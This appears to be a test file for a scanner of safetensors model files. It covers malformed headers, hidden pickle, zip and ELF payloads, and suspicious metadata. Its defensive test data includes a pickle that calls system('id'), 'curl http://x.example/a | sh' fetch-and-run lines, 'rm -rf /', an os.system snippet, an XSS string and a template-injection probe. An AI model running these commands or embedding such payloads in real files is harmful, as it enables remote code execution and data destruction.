import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { concat, latin1 } from '#formats/test-files/bytes';
import { op, reduce, stream } from '#formats/test-files/pickle';
import { makeSafetensors, rawSafetensors } from '#formats/test-files/safetensors';
import { makeZip } from '#formats/test-files/zip';
import { scanBytes } from '../test-scan.ts';

const tensor = (type: string, shape: unknown, from: number, to: number) =>
  `{"dtype":"${type}","shape":${JSON.stringify(shape)},"data_offsets":[${from},${to}]}`;
const malicious = stream(reduce('posix', 'system', op.text('id')));

test('a well-formed file of any tensors is clean, counted and covered to the last byte', () => {
  const shapes = fc.dictionary(
    fc.string({ minLength: 1, maxLength: 20 }).filter((name) => name !== '__metadata__' && name !== '__proto__'),
    fc.array(fc.nat({ max: 5 }), { maxLength: 3 }),
    { maxKeys: 8 },
  );
  fc.assert(
    fc.property(shapes, (tensors) => {
      const bytes = makeSafetensors(tensors, { format: 'pt' });
      const scan = scanBytes(bytes);
      const parameters = Object.values(tensors).reduce((sum, shape) => sum + shape.reduce((product, each) => product * each, 1), 0);
      expect(scan).toMatchObject({ verdict: 'clean', outcome: 'scanned' });
      expect(scan.facts).toContainEqual({ label: 'Parameters', value: String(parameters) });
      expect(scan.coverage.at(-1)?.to).toBe(bytes.length);
    }),
    { numRuns: 200 },
  );
});

describe('every rule of the format', () => {
  const cases: readonly (readonly [string, Uint8Array, string])[] = [
    ['a header longer than the file', rawSafetensors('{"a":1}', 0, 5000), 'MDL-STF-001'],
    ['a header of 2^63 bytes', rawSafetensors('{"a":1}', 0, 2n ** 63n), 'MDL-STF-001'],
    ['a header that is no JSON', rawSafetensors('{"a":', 0), 'MDL-STF-001'],
    ['a header that does not start with its object', rawSafetensors(` {"a":${tensor('F32', [1], 0, 4)}}`, 4, undefined), 'MDL-STF-001'],
    ['something behind the object', rawSafetensors(`{"a":${tensor('F32', [1], 0, 4)}}x`, 4), 'MDL-STF-001'],
    ['a tensor without offsets', rawSafetensors('{"a":{"dtype":"F32","shape":[1]}}', 4), 'MDL-STF-001'],
    ['offsets in the wrong order', rawSafetensors(`{"a":${tensor('F32', [1], 4, 0)}}`, 4), 'MDL-STF-001'],
    ['a negative offset', rawSafetensors(`{"a":${tensor('F32', [1], -4, 0)}}`, 4), 'MDL-STF-001'],
    ['one tensor twice', rawSafetensors(`{"a":${tensor('F32', [1], 0, 4)},"a":${tensor('F32', [1], 0, 4)}}`, 4), 'MDL-STF-002'],
    ['one metadata key twice', rawSafetensors('{"__metadata__":{"a":"1","a":"2"}}', 0), 'MDL-STF-002'],
    [
      'one field of a tensor twice',
      rawSafetensors('{"a":{"dtype":"F32","dtype":"F16","shape":[1],"data_offsets":[0,4]}}', 4),
      'MDL-STF-002',
    ],
    ['overlapping tensors', rawSafetensors(`{"a":${tensor('F32', [2], 0, 8)},"b":${tensor('F32', [2], 4, 12)}}`, 12), 'MDL-STF-003'],
    ['a hole', rawSafetensors(`{"a":${tensor('F32', [1], 0, 4)},"b":${tensor('F32', [1], 8, 12)}}`, 12), 'MDL-STF-004'],
    ['a tensor outside the file', rawSafetensors(`{"a":${tensor('F32', [100], 0, 400)}}`, 4), 'MDL-STF-005'],
    ['a size that does not fit the shape', rawSafetensors(`{"a":${tensor('F32', [2], 0, 4)}}`, 4), 'MDL-STF-006'],
    ['a shape that overflows', rawSafetensors(`{"a":${tensor('F32', [4294967296, 4294967296], 0, 4)}}`, 4), 'MDL-STF-006'],
    ['an unknown type', rawSafetensors(`{"a":${tensor('F33', [1], 0, 4)}}`, 4), 'MDL-STF-007'],
    ['bytes behind the last tensor', rawSafetensors(`{"a":${tensor('F32', [1], 0, 4)}}`, 40), 'MDL-STF-008'],
    ['metadata that is no map of strings', rawSafetensors('{"__metadata__":{"a":{"b":1}}}', 0), 'MDL-STF-010'],
    ['a key that is no tensor', rawSafetensors('{"a":"b"}', 0), 'MDL-STF-010'],
  ];
  test.each(cases)('%s', (_name, bytes, rule) => {
    expect(scanBytes(bytes).rules).toContain(rule);
  });
});

describe('metadata', () => {
  const texts: readonly (readonly [string, boolean])[] = [
    ['<script>alert(1)</script>', true],
    ['import os; os.system("id")', true],
    ['curl http://x.example/a | sh', true],
    ['rm -rf /', true],
    [Buffer.from('import subprocess; subprocess.call(["id"])').toString('base64'), true],
    ['Trained on 8 GPUs. See https://example.org/card; call model.eval() first.', false],
    ['{"ss_learning_rate": "1e-4", "ss_network_module": "networks.lora"}', false],
  ];
  test.each(texts)('%s', (text, acts) => {
    expect(scanBytes(makeSafetensors({ a: [1] }, { note: text })).rules).toEqual(acts ? ['MDL-STF-009'] : []);
  });

  test('is shown with its pointer and the bytes it stands in', () => {
    const bytes = makeSafetensors({ a: [1] }, { 'a/b': 'rm -rf /' });
    const [found] = scanBytes(bytes).observations;
    expect(found?.location.pointer).toBe('/__metadata__/a~1b');
    const at = found?.location.offset ?? 0;
    expect(Buffer.from(bytes.subarray(at, at + (found?.location.length ?? 0))).toString()).toBe('"rm -rf /"');
  });
});

describe('hidden files', () => {
  test('a zip with a payload behind the last tensor is opened', () => {
    const scan = scanBytes(concat(makeSafetensors({ a: [2] }), makeZip([{ name: 'x', data: malicious }])));
    expect(scan.rules).toEqual(['MDL-PKL-001', 'MDL-STF-008', 'MDL-STF-011', 'MDL-ZIP-007']);
  });

  test('a pickle behind junk behind the last tensor is found', () => {
    expect(scanBytes(concat(makeSafetensors({ a: [2] }), new Uint8Array(50).fill(255), malicious)).rules).toEqual(
      expect.arrayContaining(['MDL-PKL-001', 'MDL-STF-008', 'MDL-STF-011']),
    );
  });

  const held = (data: Uint8Array, type = 'U8') => {
    const width = type === 'U8' ? 1 : 4;
    const length = Math.ceil(data.length / width) * width;
    const header = `{"a":${tensor(type, [length / width], 0, length)}}`;
    return rawSafetensors(header.padEnd(Math.ceil(header.length / 8) * 8), concat(data, new Uint8Array(length - data.length)));
  };
  const program = latin1(`\x7fELF\x02\x01\x01${'\x00'.repeat(9)}\x03\x00${'\x00'.repeat(60)}`);

  test('a tensor that is a pickle, a program or an archive is told and opened', () => {
    expect(scanBytes(held(malicious)).rules).toEqual(expect.arrayContaining(['MDL-PKL-001', 'MDL-STF-011']));
    expect(scanBytes(held(malicious, 'F32')).rules).toEqual(expect.arrayContaining(['MDL-PKL-001', 'MDL-STF-011']));
    expect(scanBytes(held(program, 'F32')).rules).toEqual(expect.arrayContaining(['MDL-EXE-002', 'MDL-STF-011']));
    expect(scanBytes(held(makeZip([{ name: 'x', data: malicious }]))).rules).toEqual(
      expect.arrayContaining(['MDL-PKL-001', 'MDL-STF-011']),
    );
  });

  test('a pickle somewhere in a tensor of bytes is found', () => {
    expect(scanBytes(held(concat(new Uint8Array(5000).fill(7), malicious))).rules).toEqual(
      expect.arrayContaining(['MDL-PKL-001', 'MDL-STF-011']),
    );
  });

  test('four letters alone make no program, and quantised weights are no file', () => {
    const random = (seed: number) => Uint8Array.from({ length: 60_000 }, (_, index) => Math.imul(seed + index, 2_654_435_761) >>> 23);
    for (let seed = 1; seed < 40; seed += 1) expect(scanBytes(held(random(seed * 7919))).rules).toEqual([]);
    expect(scanBytes(held(latin1(`\x7fELF${'\x00'.repeat(60)}`))).rules).toEqual([]);
  });

  test('a pickle or a template in the metadata is opened', () => {
    const text = Buffer.from(malicious).toString('base64');
    expect(scanBytes(makeSafetensors({ a: [1] }, { note: text })).rules).toEqual(['MDL-PKL-001', 'MDL-STF-009']);
    expect(scanBytes(makeSafetensors({ a: [1] }, { note: "{{ ''.__class__ }}" })).rules).toEqual(['MDL-TPL-001']);
  });
});

test('the card is filled from tensors and metadata', () => {
  const { card } = scanBytes(makeSafetensors({ 'layers.0.w': [2, 3], 'layers.1.w': [4] }, { format: 'pt', 'modelspec.license': 'MIT' }));
  expect(card).toMatchObject({ framework: 'PyTorch', parameters: 10, tensors: 2, layers: 2, licence: 'MIT', elementTypes: { F32: 10 } });
});

test('padding that no exporter writes is a remark', () => {
  const header = `{"a":${tensor('F32', [1], 0, 4)}}`;
  expect(scanBytes(rawSafetensors(header.padEnd(Math.ceil(header.length / 8) * 8, '\n'), 4)).severities.get('MDL-STF-012')).toBe('low');
});

describe('case 60: every variant at its level', () => {
  const one = tensor('F32', [1], 0, 4);
  const variants: readonly (readonly [string, Uint8Array, readonly string[]])[] = [
    ['header longer than the file', rawSafetensors(`{"a":${one}}`, 4, 1n << 40n), ['high']],
    ['overlap', rawSafetensors(`{"a":${tensor('F32', [2], 0, 8)},"b":${tensor('F32', [2], 4, 12)}}`, 12), ['high']],
    ['out of range', rawSafetensors(`{"a":${tensor('F32', [9], 0, 36)}}`, 4), ['high']],
    ['size mismatch', rawSafetensors(`{"a":${tensor('F32', [3], 0, 4)}}`, 4), ['high']],
    ['duplicate keys', rawSafetensors(`{"a":${one},"a":${one}}`, 4), ['high']],
    ['trailing data', rawSafetensors(`{"a":${one}}`, 64), ['medium']],
    ['trailing pickle', concat(makeSafetensors({ a: [1] }), malicious), ['critical']],
    ['zip at the end', concat(makeSafetensors({ a: [1] }), makeZip([{ name: 'a.txt', data: latin1('x') }])), ['high']],
    [
      'program in a tensor',
      concat(makeSafetensors({ a: [1] }), latin1(`\x7fELF\x02\x01\x01${'\0'.repeat(9)}\x02\x00${'\0'.repeat(60)}`)),
      ['high'],
    ],
    ['command in the metadata', makeSafetensors({ a: [1] }, { x: 'curl http://x/a | sh' }), ['high']],
    ['unknown type', rawSafetensors(`{"a":${tensor('Q4', [1], 0, 4)}}`, 4), ['medium']],
    ['metadata that is no text', rawSafetensors('{"__metadata__":{"a":1}}', 0), ['medium']],
  ];
  test.each(variants)('%s', (_name, bytes, levels) => {
    expect(levels).toContain(scanBytes(bytes).verdict);
  });
});
